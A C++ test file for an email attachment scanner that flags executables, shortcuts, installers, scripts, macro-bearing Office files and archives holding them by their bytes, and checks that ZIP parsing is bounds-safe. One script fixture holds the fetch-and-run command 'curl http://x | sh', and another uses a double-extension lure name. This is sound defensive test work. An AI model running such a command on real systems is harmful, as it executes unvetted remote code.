// Attachments judged by their bytes: executables, installers, shortcuts,
// scripts, Office documents with macros, and archives that hold them.
#include "content/structure/payload_kind.hpp"
#include "content/structure/zip_entries.hpp"
#include "payload_samples.hpp"

#include <doctest/doctest.h>

using namespace mailwarden::content_detail;
using Danger = PayloadKind::Danger;
namespace s = content_samples;

TEST_CASE("executables by their magic numbers") {
    CHECK(payload_kind(s::pe()).danger == Danger::executable);
    CHECK(payload_kind(s::pe()).what.find("PE") == 0);
    CHECK(payload_kind(std::string("\x7F" "ELF\x02\x01\x01", 7) + std::string(64, '\0')).what == "ELF executable");
    CHECK(payload_kind(std::string("\xCF\xFA\xED\xFE\x07\x00\x00\x01", 8)).what == "Mach-O executable");
    CHECK(payload_kind(std::string("\xCA\xFE\xBA\xBE\x00\x00\x00\x02", 8)).what == "Mach-O universal binary");
    CHECK(payload_kind(std::string("\xCA\xFE\xBA\xBE\x00\x00\x00\x34", 8)).what == "Java class file");
    CHECK(payload_kind(s::lnk()).what == "Windows shortcut (.lnk)");
    CHECK(payload_kind(s::ole(true)).what == "Windows Installer package (MSI)");
    CHECK(payload_kind("#!/bin/sh\ncurl http://x | sh\n").what == "script (#!/bin/sh)");
    CHECK(payload_kind("#!/bin/sh\n", false).danger == Danger::none);
}

TEST_CASE("what is not an executable") {
    CHECK(payload_kind("MZ but no PE header").danger == Danger::none);
    std::string bad_offset = s::pe();
    bad_offset[0x3C] = '\x7F';  // e_lfanew past the end
    CHECK(payload_kind(bad_offset).danger == Danger::none);
    CHECK(payload_kind("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n").danger == Danger::none);
    CHECK(payload_kind(std::string("\x89PNG\r\n\x1A\n", 8)).danger == Danger::none);
    CHECK(payload_kind("").danger == Danger::none);
    CHECK(payload_kind("PK\x03\x04 truncated").danger == Danger::none);
    CHECK(payload_kind(s::zip({{"report.txt", "quarterly figures"}, {"logo.png", "\x89PNG"}})).danger == Danger::none);
}

TEST_CASE("Office documents that may carry macros") {
    CHECK(payload_kind(s::ole(false)).danger == Danger::macro);
    CHECK(payload_kind(s::ole(false)).what.find("may carry macros") != std::string::npos);
    std::string with_vba = s::ole(false);
    with_vba.append(std::string("_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0", 24));
    CHECK(payload_kind(with_vba).what == "OLE document with a VBA project (macros)");
    const auto docm = payload_kind(s::zip({{"[Content_Types].xml", "<Types/>"}, {"word/document.xml", "<w:document/>"},
                                           {"word/vbaProject.bin", "\xD0\xCF"}}));
    CHECK(docm.danger == Danger::macro);
    CHECK(docm.what.find("word/vbaProject.bin") != std::string::npos);
    CHECK(payload_kind(s::zip({{"[Content_Types].xml", "<Types/>"}, {"word/document.xml", "<w:document/>"}})).danger ==
          Danger::none);
}

TEST_CASE("archives holding executables, by name and by content") {
    const auto by_name = payload_kind(s::zip({{"readme.txt", "hi"}, {"docs/Invoice.PDF.exe", "compressed?"}}));
    CHECK(by_name.danger == Danger::executable);
    CHECK(by_name.what.find("Invoice.PDF.exe") != std::string::npos);
    const auto by_content = payload_kind(s::zip({{"invoice.pdf", s::pe()}}));
    CHECK(by_content.danger == Danger::executable);
    CHECK(by_content.what == "ZIP archive holding invoice.pdf: PE executable (MZ and PE headers)");
    CHECK(payload_kind(s::zip({{"a/Main.class", "x"}, {"META-INF/MANIFEST.MF", "Main-Class: a.Main"}})).danger ==
          Danger::executable);
    const auto nested = payload_kind(s::zip({{"inner.zip", s::zip({{"run.sh", "#!/bin/sh\n"}})}}));
    CHECK(nested.danger == Danger::executable);
    CHECK(nested.what.find("inner.zip") != std::string::npos);
}

TEST_CASE("the central directory is read with bounds checks") {
    const std::string z = s::zip({{"a.txt", "alpha"}, {"b.txt", "beta"}});
    const auto entries = zip_entries(z);
    REQUIRE(entries.size() == 2);
    CHECK(entries[1].name == "b.txt");
    CHECK(entries[1].head == "beta");
    // Every cut of the archive reads without going outside it.
    for (std::size_t n = 0; n <= z.size(); ++n) (void)zip_entries(std::string_view(z).substr(0, n));
    std::string lying = z;
    lying[lying.size() - 22 + 16] = '\x7F';  // the directory offset points past the end
    CHECK(zip_entries(lying).empty());
}
